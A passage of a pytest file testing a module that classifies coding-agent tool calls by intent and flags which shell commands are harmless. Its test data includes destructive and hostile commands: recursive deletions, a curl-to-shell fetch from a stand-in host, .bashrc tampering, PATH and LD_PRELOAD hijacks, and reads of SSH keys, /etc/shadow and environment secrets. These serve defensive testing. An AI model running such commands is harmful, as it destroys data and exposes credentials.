"""Unit tests of spark_pg.intent: tool-call intents, memory action domains, actionability. No database."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest

from spark_pg.intent import (
    ACTION_DOMAINS,
    ACTIONABILITY_GATE,
    INTENT_FAMILIES,
    MAX_INTENT_TEXT,
    Actionability,
    Intent,
    actionability,
    classify_domain,
    classify_family,
    extract_intent,
)

# ------------------------------------------------------------------------------------------ taxonomy


def test_families_allow_only_known_domains_and_always_general() -> None:
    assert len(INTENT_FAMILIES) >= 11
    for family, domains in INTENT_FAMILIES.items():
        assert set(domains) <= set(ACTION_DOMAINS), family
        assert "general" in domains, family
        assert "training_log" not in domains, family


@pytest.mark.parametrize(
    "family",
    [
        "auth_security",
        "code_editing",
        "testing_validation",
        "debugging_errors",
        "data_schema",
        "version_control",
        "build_dependencies",
        "deployment_ops",
        "file_navigation",
    ],
)
def test_code_work_never_sees_social_memories(family: str) -> None:
    assert "social" not in INTENT_FAMILIES[family]
    assert "user_context" not in INTENT_FAMILIES[family]


def test_social_and_research_families_see_their_own_domains() -> None:
    assert {"social", "user_context"} <= set(INTENT_FAMILIES["social_content"])
    assert "research" in INTENT_FAMILIES["research_decision_support"]
    assert "code" not in INTENT_FAMILIES["social_content"]


# --------------------------------------------------------------------------------------- tool calls

# (tool, input, task context, family, action, words the target must contain, words the text must contain)
TOOL_CALLS: list[tuple[str, Any, str, str, str | None, tuple[str, ...], tuple[str, ...]]] = [
    (
        "Edit",
        {
            "file_path": "/repo/src/auth/login.py",
            "old_string": "if exp < now:",
            "new_string": "if exp <= now:",
        },
        "Fix the JWT expiry check so tokens expire on time",
        "auth_security",
        "edit",
        ("auth", "login"),
        ("edit", "auth login", "jwt expiry"),
    ),
    (
        "Edit",
        {
            "file_path": "/Users/dana/code/shop/web/src/components/CheckoutButton.tsx",
            "old_string": "<button className='btn'>",
            "new_string": "<button className='btn btn-primary' disabled={loading}>",
        },
        "make the checkout button show a spinner while the payment is pending",
        "code_editing",
        "edit",
        ("checkout", "button"),
        ("checkout button", "spinner"),
    ),
    (
        "Write",
        {
            "file_path": "/repo/tests/test_invoices.py",
            "content": "def test_total_includes_tax():\n    assert 1",
        },
        "",
        "testing_validation",
        "write",
        ("invoices",),
        ("test", "invoices", "test_total_includes_tax"),
    ),
    (
        "Bash",
        {"command": "alembic upgrade head", "description": "Apply pending database migrations"},
        "",
        "data_schema",
        "migrate",
        ("alembic upgrade head",),
        ("alembic upgrade head", "migrations"),
    ),
    (
        "Bash",
        {"command": "cd /home/ci/work/api && python -m pytest tests/unit/test_refunds.py -x -q"},
        "",
        "testing_validation",
        "test",
        ("pytest", "refunds"),
        ("pytest", "refunds"),
    ),
    (
        "Bash",
        {"command": 'git commit -m "Add rate limit to password reset"', "description": "Commit the fix"},
        "",
        "version_control",
        "commit",
        ("git commit", "rate limit"),
        ("git commit", "password reset"),
    ),
    (
        "Bash",
        {"command": "git push --force-with-lease origin feature/search"},
        "",
        "version_control",
        "push",
        ("git push", "--force-with-lease"),
        ("git push",),
    ),
    (
        "Bash",
        {"command": "docker build -t registry.example.com/api:1.4.2 .", "description": "Build the API image"},
        "",
        "build_dependencies",
        "build",
        ("docker build",),
        ("docker build", "api image"),
    ),
    (
        "Bash",
        {"command": "kubectl rollout restart deployment/payments -n prod"},
        "roll out the payments hotfix to production",
        "deployment_ops",
        "deploy",
        ("kubectl rollout restart",),
        ("kubectl", "payments", "production"),
    ),
    (
        "Bash",
        {"command": "npm install --save-dev vitest@1.6.0"},
        "",
        "build_dependencies",
        "install",
        ("npm install", "vitest"),
        ("npm install",),
    ),
    (
        "Bash",
        {"command": "psql \"$DATABASE_URL\" -c 'EXPLAIN ANALYZE SELECT * FROM orders WHERE user_id = 42'"},
        "the orders page is slow",
        "data_schema",
        "query",
        ("psql", "orders"),
        ("explain analyze", "orders page is slow"),
    ),
    (
        "WebSearch",
        {"query": "pgvector hnsw vs ivfflat recall latency tradeoffs"},
        "",
        "research_decision_support",
        "search",
        ("hnsw", "ivfflat"),
        ("search", "pgvector hnsw"),
    ),
    (
        "WebFetch",
        {
            "url": "https://docs.djangoproject.com/en/5.0/topics/db/transactions/?utm_source=x#atomic",
            "prompt": "When does atomic() roll back?",
        },
        "",
        "research_decision_support",
        "fetch",
        ("djangoproject.com", "transactions"),
        ("fetch", "transactions", "roll back"),
    ),
    (
        "Task",
        {
            "description": "Compare auth libraries",
            "prompt": "Evaluate authlib vs python-jose for JWT validation",
        },
        "",
        "research_decision_support",
        "compare",
        ("auth libraries",),
        ("compare auth libraries", "authlib"),
    ),
    (
        "mcp__x__post_tweet",
        {"text": "We just open-sourced our agent memory layer: https://github.com/acme/mem?ref=x"},
        "",
        "social_content",
        "post",
        ("open-sourced", "agent memory"),
        ("post", "github.com acme mem"),
    ),
    (
        "Read",
        {"file_path": "/repo/config/settings/production.py"},
        "",
        "file_navigation",
        "read",
        ("settings", "production"),
        ("read", "settings production"),
    ),
    (
        "Glob",
        {"pattern": "src/**/*.test.ts"},
        "",
        "file_navigation",
        "find",
        ("test", "typescript files"),
        ("find",),
    ),
    (
        "Grep",
        {"pattern": "def\\s+refresh_token", "path": "/repo/src/auth"},
        "",
        "file_navigation",
        "search",
        ("refresh_token", "auth"),
        ("search", "refresh_token"),
    ),
    (
        "Edit",
        {"file_path": "/repo/.github/workflows/ci.yml", "old_string": "node-version: 18", "new_string": "20"},
        "",
        "build_dependencies",
        "edit",
        ("workflows", "ci"),
        ("edit", "ci"),
    ),
    (
        "Edit",
        {
            "file_path": "/repo/alembic/versions/9c1e2f3a4b5d_add_index_on_orders.py",
            "old_string": "a",
            "new_string": "b",
        },
        "",
        "data_schema",
        "edit",
        ("add index on orders",),
        ("add index on orders",),
    ),
    (
        "Bash",
        {"command": "python scripts/reindex.py --batch 500"},
        "reindex crashes with KeyError: 'embedding' on the second batch",
        "debugging_errors",
        "run",
        ("reindex",),
        ("keyerror",),
    ),
    (
        "mcp__github__create_pull_request",
        {
            "owner": "acme",
            "repo": "shop",
            "title": "Cache product listings",
            "head": "feat/cache",
            "base": "main",
        },
        "",
        "version_control",
        "create",
        ("cache product listings",),
        ("create", "cache product listings"),
    ),
    (
        "Bash",
        {"command": "fly deploy --strategy rolling", "description": "Deploy to Fly.io"},
        "",
        "deployment_ops",
        "deploy",
        ("fly deploy",),
        ("fly deploy",),
    ),
]


@pytest.mark.parametrize(
    ("tool", "tool_input", "context", "family", "action", "target_words", "text_words"),
    TOOL_CALLS,
    ids=[f"{c[0]}-{c[3]}-{i}" for i, c in enumerate(TOOL_CALLS)],
)
def test_extract_intent_of_realistic_tool_calls(
    tool: str,
    tool_input: Any,
    context: str,
    family: str,
    action: str | None,
    target_words: tuple[str, ...],
    text_words: tuple[str, ...],
) -> None:
    intent = extract_intent(tool, tool_input, context)
    assert intent.family == family
    assert intent.domains == INTENT_FAMILIES[family]
    assert intent.action == action
    assert intent.tool == tool
    assert intent.target is not None
    for word in target_words:
        assert word.lower() in intent.target.lower(), (word, intent.target)
    for word in text_words:
        assert word.lower() in intent.text.lower(), (word, intent.text)
    assert_clean(intent.text)


def assert_clean(text: str) -> None:
    """An intent text is short, has no JSON, no braces or quotes, no long paths and no query strings."""
    assert 0 < len(text) <= MAX_INTENT_TEXT
    assert not re.search(r"[{}\[\]\"`]", text), text
    assert not re.search(r"(?:/[\w.-]+){3,}", text), text  # no long absolute or relative paths
    assert "?utm" not in text and not re.search(r"\w=\S", text), text  # no key=value metadata
    assert "://" not in text, text


def test_code_bodies_are_not_embedded_but_identifiers_are_hinted() -> None:
    body = "def apply_discount(cart):\n    " + "total = sum(i.price for i in cart.items)\n    " * 50
    intent = extract_intent("Write", {"file_path": "/repo/src/billing/discounts.py", "content": body})
    assert intent.target == "billing discounts"
    assert "apply_discount" in intent.text
    assert "sum(" not in intent.text and "price" not in intent.text and "total" not in intent.text


def test_an_edit_adds_the_identifiers_it_introduces_to_the_intent() -> None:
    """What an edit adds (not what it replaces, not keywords, not loop variables) joins the intent, even
    with a task context: an HTTPException or an onMutate says what advice is about."""
    edit = {
        "file_path": "/repo/src/orders/router.py",
        "old_string": "order = await db.get(Order, order_id)\nreturn order",
        "new_string": "order = await db.get(Order, order_id)\nif order is None:\n"
        "    raise HTTPException(status_code=404)\nfor i in order.lines: total += i.price\nreturn order",
    }
    intent = extract_intent("Edit", edit, "Return 404 for unknown orders")
    assert intent.text.endswith("HTTPException status_code order.lines"), intent.text
    assert "db.get" not in intent.text and "i.price" not in intent.text and "raise" not in intent.text
    many = {**edit, "new_string": " ".join(f"helper_{n}()" for n in range(20))}
    assert extract_intent("Edit", many, "x").text.split(". ")[-1] == "helper_0 helper_1 helper_2"
    revision = {**edit, "new_string": 'revision = "b7d4e2a1c3f"\nop.add_column("orders", channel_column)'}
    assert extract_intent("Edit", revision, "x").text.endswith(". revision op.add_column channel_column")
    boilerplate = {
        "file_path": "/repo/src/cli.py",
        "content": "from __future__ import annotations\nimport argparse\n# parse the arguments\n"
        "def run_command(args):\n    self.session.commit()\n",
    }
    assert extract_intent("Write", boilerplate, "add a command").text.endswith(". run_command session.commit")
    unchanged = {**edit, "new_string": edit["old_string"]}
    assert extract_intent("Edit", unchanged, "Return 404 for unknown orders").text == (
        "edit orders router: Return 404 for unknown orders"
    )


def test_task_context_is_cleaned_of_json_paths_urls_ids_and_line_numbers() -> None:
    context = (
        'Working on refunds {"ticket": "PAY-12", "ids": [1, 2, 3]} see '
        "/Users/me/dev/shop/src/api/payments/refunds/handler.py line 42, commit 3f9a2b1c7d, "
        "https://sentry.io/issues/123?project=9&query=is%3Aunresolved file_path=/tmp/x.py"
    )
    intent = extract_intent(
        "Edit", {"file_path": "/repo/src/api/payments.py", "old_string": "", "new_string": ""}, context
    )
    assert_clean(intent.text)
    assert "refunds handler" in intent.text
    assert "sentry.io issues" in intent.text
    for noise in ("PAY-12", "3f9a2b1c7d", "42", "project", "file_path", "tmp"):
        assert noise not in intent.text, noise


def test_path_targets_drop_extensions_and_noise_folders() -> None:
    cases = {
        "/repo/src/auth/login.py": "auth login",
        "auth/login.py": "auth login",
        "/home/alice/app/src/components/Modal/index.tsx": "components modal",
        "C:\\Users\\bob\\shop\\lib\\orderService.ts": "shop order service",
        "/repo/tests/test_payments.py": "test payments",
        "/repo/Dockerfile": "dockerfile",
        "/repo/package.json": "package json",
    }
    for path, expected in cases.items():
        assert extract_intent("Edit", {"file_path": path}).target == expected, path


@pytest.mark.parametrize(
    ("command", "action"),
    [
        ("kubectl apply -f k8s/api.yaml", "deploy"),
        ("kubectl get pods -n prod", "run"),
        ("terraform plan", "run"),
        ("terraform apply -auto-approve", "deploy"),
        ("make deploy", "deploy"),
        ("git status", "run"),
        ("git rebase -i main", "rebase"),
        ("gh pr merge 42 --squash", "merge"),
        ("rm -rf node_modules", "delete"),
        ("ruff check src", "lint"),
        ("cargo build --release", "build"),
        ("pip install -r requirements.txt", "install"),
    ],
)
def test_shell_verbs(command: str, action: str) -> None:
    assert extract_intent("Bash", {"command": command}).action == action


def test_command_targets_keep_meaning_and_drop_noise() -> None:
    intent = extract_intent(
        "Bash",
        {"command": 'FOO=1 sudo -E psql "$DATABASE_URL" -v ON_ERROR_STOP=1 -f db/seed/2026_01_orders.sql'},
    )
    assert intent.target is not None
    assert intent.target.startswith("psql")
    assert "DATABASE_URL" not in intent.target and "FOO" not in intent.target and "sudo" not in intent.target
    assert "on_error_stop 1" in intent.target.lower()
    assert intent.target.endswith("seed orders")  # the file's meaningful name, numbers dropped
    assert intent.action == "query"
    heredoc = extract_intent("Bash", {"command": "cat > notes.md <<'EOF'\nline one\n{json: 1}\nEOF"})
    assert heredoc.target == "cat notes.md" and not heredoc.trivial


def test_long_text_is_capped_at_a_word_boundary() -> None:
    context = "migrate the billing tables to the new ledger schema " * 20
    intent = extract_intent("Bash", {"command": "alembic upgrade head"}, context)
    assert len(intent.text) <= MAX_INTENT_TEXT
    assert intent.text.split()[-1] in context.split()


@pytest.mark.parametrize(
    ("tool", "text", "family"),
    [
        ("Bash", "pytest tests/test_auth.py -x", "testing_validation"),
        ("Bash", "git rebase -i HEAD~3", "version_control"),
        ("Bash", "sudo systemctl restart nginx", "deployment_ops"),
        ("Bash", "npx prisma migrate dev --name add_orders", "data_schema"),
        ("Bash", "uv run ruff check .", "build_dependencies"),
        ("Bash", "openssl req -x509 -newkey rsa:4096 -keyout key.pem", "auth_security"),
        ("Edit", "auth middleware jwt verification", "auth_security"),
        ("Edit", "src/styles/theme.css dark mode colours", "code_editing"),
        ("Read", "auth login", "file_navigation"),
        ("WebSearch", "best python library for pdf parsing", "research_decision_support"),
        ("Task", "Investigate why checkout crashes with TypeError", "debugging_errors"),
        ("Task", "Draft a tweet thread announcing the v2 launch", "social_content"),
        ("mcp__linkedin__create_post", "we are hiring", "social_content"),
        ("WebFetch", "x.com dana_dev status 1850 what is the user reporting", "social_content"),
        ("Bash", "gh workflow run deploy.yml -f environment=production", "deployment_ops"),
        ("Bash", 'xurl -X POST /2/tweets -d \'{"text": "v2 is out"}\'', "social_content"),
        ("Bash", "tail -n 100 /var/log/nginx/error.log", "debugging_errors"),
        ("SomeNewTool", "", "general"),
        ("", "", "general"),
    ],
)
def test_classify_family(tool: str, text: str, family: str) -> None:
    assert classify_family(tool, text) == family


# ------------------------------------------------------------------------------------------ trivial


@pytest.mark.parametrize(
    ("tool", "tool_input"),
    [
        ("Read", {"file_path": "/repo/README.md"}),
        ("Glob", {"pattern": "**/*.py"}),
        ("Grep", {"pattern": "TODO", "path": "/repo/src"}),
        ("LS", {"path": "/repo/src"}),
        ("Bash", {"command": "ls -la"}),
        ("Bash", {"command": "git status && git diff --stat"}),
        ("Bash", {"command": "ls # list the files\ngit log --oneline"}),
        ("Bash", {"command": "cd /repo && git remote -v && rg TODO src | head"}),
        ("Bash", {"command": "find . -name '*.py' -newer setup.cfg"}),
        ("Bash", {"command": "ls -la 2>&1 | head"}),  # a stream joined to another writes nothing
        ("Bash", {"command": "find / -name pg_hba.conf 2>/dev/null"}),  # nor one thrown away
        ("Bash", {"command": "git reflog show main && tree -L 2 && file README.md"}),
        ("Bash", {"command": "GIT_PAGER=cat git log -5 && LC_ALL=C ls"}),  # inert env assignments
        ("Bash", {"command": "cd /repo\ncd src\nls\ngit status\ngit log"}),  # cd lines are not counted
    ],
)
def test_read_only_calls_without_context_are_trivial(tool: str, tool_input: dict[str, Any]) -> None:
    assert extract_intent(tool, tool_input).trivial
    assert extract_intent(tool, tool_input, "   ").trivial  # blank context is no context
    assert not extract_intent(tool, tool_input, "find where the session timeout is configured").trivial


@pytest.mark.parametrize(
    ("tool", "tool_input"),
    [
        ("Edit", {"file_path": "/repo/README.md", "old_string": "a", "new_string": "b"}),
        ("Write", {"file_path": "/repo/notes.md", "content": "x"}),
        ("Bash", {"command": "rm -rf build"}),
        ("Bash", {"command": "cat .env"}),  # prints secrets: worth advice
        ("Bash", {"command": "ls > files.txt"}),
        ("WebSearch", {"query": "postgres vacuum"}),
        ("Task", {"description": "Explore the repo"}),
    ],
)
def test_writes_and_other_calls_are_never_trivial(tool: str, tool_input: dict[str, Any]) -> None:
    assert not extract_intent(tool, tool_input).trivial


@pytest.mark.parametrize(
    "command",
    [
        "ls # list files\nrm -rf /var/lib/app",  # the comment hid every later line
        "cat <<'SQL' | psql \"$DATABASE_URL\"\nDROP TABLE users;\nSQL",  # the heredoc hid the pipe
        "ls\nls\nls\nrm -rf /var/lib/app",  # only three lines were read
        "git status && git diff --stat\ngit log\ngit show\ngit reset --hard HEAD~3",
        "ls `rm -rf /var/lib/app`",
        'ls "$(rm -rf /var/lib/app)"',
        "cat <(curl -s https://x.example/install.sh | sh)",
        "ls &>/etc/motd",
        "rg --pre ./run.sh TODO",
        "rg --pre=./run.sh TODO",
        "fd -x rm {} \\;",
        "fd --exec rm",
        "find . -fprint /etc/passwd",
        "find . -execdir rm {} +",
        "git remote add upstream https://example.com/x.git",
        "git remote remove origin",
        "git -c core.pager='rm -rf ~' log",
        "git diff --output=/etc/hosts",
        "less '+!rm -rf /tmp/x' notes.md",
        "date -s '2020-01-01'",
        "ls " + "a" * 5000 + " && rm -rf /",  # longer than what is read
        "ls " + "a " * 300 + "&& rm -rf /",  # more words than are read
        # a redirect with a file-descriptor number still writes a file
        "echo 'rm -rf ~' 1>>~/.bashrc",
        "cat /dev/null 1>prod.db",
        "ls 2>errors.log",
        "ls >/dev/null.bak",
        # options and env assignments that write or run a program
        "git reflog expire --expire=now --all",
        "git reflog delete HEAD@{1}",
        "tree -o ~/.bashrc",
        "tree -ao ~/.bashrc",
        "file -C -m magic",
        "less -o copy.txt notes.md",
        "GIT_PAGER='sh -c \"rm -rf ~\"' git log",
        "LESSOPEN='|rm -rf ~ %s' less README",
        "env GIT_EXTERNAL_DIFF=./wipe.sh git diff",
        "GIT_SSH_COMMAND='rm -rf ~' git remote -v",
        "PATH=./evil:$PATH ls",
        "sudo LD_PRELOAD=./hook.so ls",
        "cd /repo && GIT_TRACE=/etc/motd git status",
        # setup lines do not count towards the lines read, but every line is read
        "cd /repo\nls\ncd src\nls\nls\nrm -rf /var/lib/app",
    ],
)
def test_a_command_whose_effect_the_words_do_not_show_is_not_trivial(command: str) -> None:
    """Each of these was classed read-only, so the advisor skipped the call: no advice, no interrupt."""
    assert not extract_intent("Bash", {"command": command}).trivial


@pytest.mark.parametrize(
    ("command", "action", "target"),
    [
        ("git status && git commit -m 'fix auth'", "commit", "git commit fix auth"),
        ("ls && npm install express", "install", "npm install express"),
        ("pwd && alembic upgrade head", "migrate", "alembic upgrade head"),
        ("cat schema.sql | psql prod", "query", "psql prod"),
        ("grep -rl TODO . | xargs rm", "delete", "rm"),
        ("cd /repo && git log --oneline | head", "run", "git log"),  # all read-only: the first
    ],
)
def test_the_intent_is_the_segment_that_acts_not_a_read_only_preamble(
    command: str, action: str, target: str
) -> None:
    intent = extract_intent("Bash", {"command": command})
    assert (intent.action, intent.target) == (action, target)


@pytest.mark.parametrize(
    "command",
    [
        "cat .env.production",
        "cat .envrc",
        "cat ~/.ssh/id_ed25519",
        "cat ~/.ssh/id_ecdsa",
        "cat ~/.netrc",
        "cat ~/.pgpass",
        "cat ~/.npmrc",
        "cat ~/.kube/config",
        "cat ~/.docker/config.json",
        "cat ~/.config/gh/hosts.yml",
        "cat server.p12",
        "head certs/client.pfx",
        "cat /etc/shadow",
        "cat /proc/self/environ",
        "env",
        "sudo env",
        "printenv",
        "env | grep KEY",
    ],
)
def test_printing_secrets_or_the_environment_is_worth_advice(command: str) -> None:
    """Each of these was read-only (or, bare ``env``, a call with nothing to go on): skipped, no advice."""
    intent = extract_intent("Bash", {"command": command})
    assert not intent.trivial
    assert intent.target


def test_shadow_in_a_css_property_is_no_secret() -> None:
    assert extract_intent("Bash", {"command": "grep -rn box-shadow src/styles"}).trivial


@pytest.mark.parametrize(
    ("command", "action", "target"),
    [
        # "<<" outside a heredoc: a shift, a quoted word
        ("echo $((1<<3)); git push --force origin main", "push", "git push --force origin main"),
        ("git commit -m 'a << b' && git push --force origin main", "commit", "git commit a b"),
        ('git commit -m "x <<EOF" && git push', "commit", "git commit x EOF"),
        # a heredoc's body is skipped and reading resumes after its delimiter line
        ("cat > m.sql <<'EOF'\nDROP TABLE users;\nEOF\npsql prod -f m.sql", "query", "psql prod m.sql"),
        (
            "cat <<-SQL > m.sql\n\tDROP TABLE users;\n\tSQL\nalembic upgrade head",
            "migrate",
            "alembic upgrade head",
        ),
        # setup-only lines do not use up the three lines read
        (
            "cd /repo\nsource .venv/bin/activate\nexport X=1\nkubectl apply -f prod.yaml",
            "deploy",
            "kubectl apply prod.yaml",
        ),
        ("set -euo pipefail\nX=1\n. env.sh\necho start\nls\npwd\nfly deploy", "deploy", "fly deploy"),
        ("ls \\\n  -la && rm -rf dist", "delete", "rm -rf dist"),  # a continued line
        ("rm -rf dist  # clean first", "delete", "rm -rf dist"),  # a comment is no word of the command
    ],
)
def test_the_acting_command_survives_shifts_quotes_heredocs_and_setup_lines(
    command: str, action: str, target: str
) -> None:
    intent = extract_intent("Bash", {"command": command})
    assert (intent.action, intent.target) == (action, target)


def test_a_heredoc_still_makes_a_command_not_read_only() -> None:
    assert not extract_intent("Bash", {"command": "cat <<EOF\nhello\nEOF"}).trivial
    assert not extract_intent("Bash", {"command": 'grep x <<< "$DATA"'}).trivial


# ------------------------------------------------------------------------------------------ MCP tools


@pytest.mark.parametrize(
    ("tool", "tool_input", "family", "words"),
    [
        # read by the kind table, "exec" was a shell call: the SQL went unread, the call was skipped as blank
        ("mcp__postgres__exec", {"sql": "DROP TABLE users"}, "data_schema", ("drop table users",)),
        ("mcp__db__read", {"sql": "DELETE FROM users WHERE 1=1"}, "data_schema", ("delete from users",)),
        # "fetch" was a web fetch and "quote" a social post, each with nothing to go on
        ("mcp__git__fetch", {"repo_path": "/srv/app", "remote": "origin"}, "version_control", ("fetch",)),
        ("mcp__stripe__create_quote", {"customer": "cus_Q1", "currency": "usd"}, "general", ("create",)),
        ("mcp__x__get_user_profile", {"username": "dana_dev"}, "social_content", ("dana_dev",)),
    ],
)
def test_an_mcp_tool_of_an_unknown_server_is_read_from_its_fields(
    tool: str, tool_input: dict[str, Any], family: str, words: tuple[str, ...]
) -> None:
    intent = extract_intent(tool, tool_input)
    assert not intent.trivial
    assert intent.family == family
    for word in words:
        assert word in intent.text.lower(), (word, intent.text)


@pytest.mark.parametrize(
    ("tool", "tool_input", "action", "trivial"),
    [
        ("mcp__filesystem__read_file", {"path": "/repo/src/auth/login.py"}, "read", True),
        ("mcp__filesystem__write_file", {"path": "/repo/notes.md", "content": "x"}, "write", False),
        ("mcp__desktop-commander__execute_command", {"command": "rm -rf /srv/app"}, "delete", False),
        ("mcp__fetch__fetch", {"url": "https://docs.python.org/3/library/re.html"}, "fetch", False),
        ("mcp__x__post_tweet", {"text": "v2 is out"}, "post", False),
    ],
)
def test_an_mcp_tool_of_a_known_server_keeps_its_kind(
    tool: str, tool_input: dict[str, Any], action: str, trivial: bool
) -> None:
    intent = extract_intent(tool, tool_input)
    assert (intent.action, intent.trivial) == (action, trivial)


# ---------------------------------------------------------------------------------------- odd input

ODD_INPUTS: list[tuple[Any, Any, Any]] = [
    ("Edit", None, ""),
    ("Edit", "not json at all", ""),
    ("Bash", '{"command": "make test"}', ""),
    ("Bash", '{"command": ', ""),
    ("Bash", {"command": "echo 'unterminated"}, ""),
    ("Bash", {"command": None, "description": 7}, None),
    ("Bash", {"command": ["ls", "-la"]}, ""),
    ("Read", {"file_path": 12345}, ""),
    ("Grep", {"pattern": "((((["}, ""),
    ("Glob", {"pattern": "{a,b}/**/*.{ts,tsx}"}, ""),
    ("MultiEdit", {"file_path": "/a/b.py", "edits": [None, 3, {"new_string": None}, "x"]}, ""),
    ("TodoWrite", {"todos": "not a list"}, ""),
    ("mcp__weird__thing", {"a": {"b": {"c": [1, 2, {"d": "deep value here"}]}}}, ""),
    ("", {}, ""),
    (None, None, None),
    (42, [1, 2, 3], 3.5),
    ("Edit", {1: "x", (2, 3): "y"}, ""),
    ("Write", {"file_path": "/x/" * 10_000 + "big.py", "content": "{" * 200_000}, "}" * 100_000),
    ("Bash", {"command": "a && " * 20_000}, ""),
    ("Task", {"prompt": "[" * 5_000 + "'" + "]" * 5_000}, "\x00\x01\ufffd🚀 漢字"),
]


@pytest.mark.parametrize(("tool", "tool_input", "context"), ODD_INPUTS)
def test_odd_input_never_raises(tool: Any, tool_input: Any, context: Any) -> None:
    intent = extract_intent(tool, tool_input, context)
    assert isinstance(intent, Intent)
    assert intent.family in INTENT_FAMILIES
    assert intent.domains == INTENT_FAMILIES[intent.family]
    assert 0 < len(intent.text) <= MAX_INTENT_TEXT
    assert not re.search(r"[{}\[\]\"`]", intent.text)


def test_json_string_input_is_parsed_like_a_mapping() -> None:
    as_json = extract_intent("Bash", json.dumps({"command": "npm test"}))
    as_dict = extract_intent("Bash", {"command": "npm test"})
    assert as_json == as_dict
    assert as_json.family == "testing_validation"


def test_unknown_tool_uses_the_most_telling_field() -> None:
    intent = extract_intent(
        "mcp__supabase__execute_sql",
        {"project_id": "abc123", "query": "ALTER TABLE users ADD COLUMN plan text"},
    )
    assert intent.family == "data_schema"
    assert intent.action == "execute"
    assert intent.target is not None and "alter table users" in intent.target.lower()
    nested = extract_intent("mcp__weird__thing", {"a": {"b": [{"c": "deep value here"}]}})
    assert nested.target == "deep value here"


@pytest.mark.parametrize("value", [None, "", 12, "\x00", "x" * 200_000, "RT @" * 50_000, "(" * 50_000])
def test_classifiers_never_raise(value: Any) -> None:
    assert classify_domain(value) in ACTION_DOMAINS
    assert classify_domain("text", category=value, source=value, kind=value) in ACTION_DOMAINS
    assert classify_family(value, value) in INTENT_FAMILIES
    result = actionability(value)
    assert 0.0 <= result.score <= 1.0


# ------------------------------------------------------------------------------------ memory domains

DOMAINS: list[tuple[str, dict[str, str], str]] = [
    ("RT @swyx: the agent memory landscape is getting crowded, great thread", {}, "social"),
    ("ClaudeCraft integrating OpenClaw for agent orchestration (eng: 45 likes, 12 replies)", {}, "social"),
    ("Interesting take on evals from a founder", {"source": "x_research"}, "social"),
    ("Best posting window is 9-11am ET for developer audiences", {"source": "engagement_tracker"}, "social"),
    ("Threads that open with a concrete number get more engagement on X", {}, "social"),
    ("[DEPTH:3] Strong reasoning: the model decomposed the task into three sub-goals", {}, "training_log"),
    ("Scored 7/10 on systems thinking round", {"source": "depth_trainer"}, "training_log"),
    ('User said: "just ship it, we can clean up later"', {}, "user_context"),
    ('User prefers "Now, can we go ahead and push this to main?"', {}, "user_context"),
    ('"honestly I hate when the build takes forever"', {}, "user_context"),
    ("Is a solo founder who works late at night", {"category": "user_understanding"}, "user_context"),
    ("def merge(a, b):\n    out = dict(a)\n    out.update(b)\n    return out", {}, "code"),
    ("Use pytest fixtures instead of setUp methods and keep each test function small.", {}, "code"),
    ("Rebase feature branches on main before opening a pull request.", {}, "code"),
    ("Never log JWT access tokens or passwords; redact them in the logging filter.", {}, "security"),
    ("Rotate API keys and secrets when a contractor leaves.", {}, "security"),
    (
        "Write Alembic migrations that can be downgraded, and test them on a copy of production data.",
        {},
        "data",
    ),
    ("Add a composite index on (tenant_id, created_at) for the orders table query.", {}, "data"),
    (
        "Before deploying, confirm the production environment variables and have a rollback plan.",
        {},
        "system",
    ),
    ("Run kubectl rollout status after every helm upgrade to catch crash loops early.", {}, "system"),
    ("2026-01-02 12:00:01 INFO worker started", {}, "system"),
    (
        "When comparing libraries, read the docs and benchmarks and check the date of the last release.",
        {},
        "research",
    ),
    ("Summary of the arXiv paper on retrieval-augmented generation", {"source": "web_research"}, "research"),
    ("Take a short walk after lunch.", {}, "general"),
    ("Use packet guidance.", {}, "general"),
]


@pytest.mark.parametrize(("text", "kwargs", "domain"), DOMAINS, ids=[d[2] + "-" + d[0][:24] for d in DOMAINS])
def test_classify_domain(text: str, kwargs: dict[str, str], domain: str) -> None:
    assert classify_domain(text, **kwargs) == domain


def test_source_markers_yield_to_clear_technical_advice() -> None:
    rule = "Pin third-party GitHub Actions to a commit SHA, not a tag, so a moved tag cannot leak CI secrets."
    assert classify_domain(rule, source="x_research") in {"system", "security", "code"}
    assert classify_domain("Loved this thread on agent memory, so good", source="x_research") == "social"
    assert (
        classify_domain("Tried chain-of-thought on the cache question", source="depth_session")
        == "training_log"
    )
    assert classify_domain("RT @a: pin your GitHub Actions to a SHA", source="x_research") == "social"


@pytest.mark.parametrize(
    ("text", "source"),
    [
        ("Pin the Node version in .nvmrc.", "onboarding-training"),
        ("Always run the linter before committing.", "in-depth-review"),
        ("Rotate API keys every 90 days.", "customer_engagement_team"),
        ("Never force-push to main.", "socialproof"),
    ],
)
def test_a_source_marker_is_the_sources_first_word_not_a_substring(text: str, source: str) -> None:
    """These sources only contain a marker: the memory was classed training_log or social, hidden from
    every code call."""
    assert classify_domain(text, source=source) == classify_domain(text, source="user")
    assert classify_domain(text, source=source) not in {"training_log", "social"}


@pytest.mark.parametrize(
    ("source", "domain"),
    [
        ("depth", "training_log"),
        ("training-run-7", "training_log"),
        ("x_social", "social"),
        ("Twitter/bookmarks", "social"),
        ("engagement", "social"),
    ],
)
def test_a_source_named_for_its_provenance_still_marks_it(source: str, domain: str) -> None:
    assert classify_domain("Loved the energy of this one", source=source) == domain


def test_cross_cutting_memories_are_general() -> None:
    safety = "Confirm with the user before deleting data, deploying to production or publishing a post."
    assert classify_domain(safety, category="safety") == "general"


def test_category_breaks_a_close_call_and_kind_is_a_last_hint() -> None:
    text = "Build queries with bound parameters, never by pasting user-supplied strings."
    assert classify_domain(text, category="security") == "security"
    plain = "The physics jittered until the timestep was fixed at 1/60 s."
    assert classify_domain(plain) == "general"
    assert classify_domain(plain, kind="failure") == "code"


def test_the_writers_category_outweighs_a_few_words_of_another_domain() -> None:
    text = "When someone reports a bug on X, thank them and ask for the details in a GitHub issue."
    assert classify_domain(text) == "code"  # bug, issue, GitHub: the words alone say code
    assert classify_domain(text, category="social") == "social"
    dump = "def total(cart):\n    return sum(i.price for i in cart.items)\n" * 3
    assert classify_domain(dump, category="social") == "code"  # a text marker still decides first


# ------------------------------------------------------------------------------------- actionability

ADVICE = [
    "Always verify auth tokens server-side before trusting the user id.",
    "Use git push --force-with-lease instead of --force when rewriting a shared branch.",
    "When a migration adds a NOT NULL column, backfill it in a separate step before adding the constraint.",
    "Never commit .env files; add them to .gitignore.",
    "Run pytest -x locally before pushing to main.",
    "Pin Docker base images by digest so CI builds are reproducible.",
    "If the React list re-renders on every keystroke, memoize the row component.",
    "Check EXPLAIN ANALYZE before adding an index to a large table.",
    "Tweets that open with a concrete number get more replies; lead with the number.",
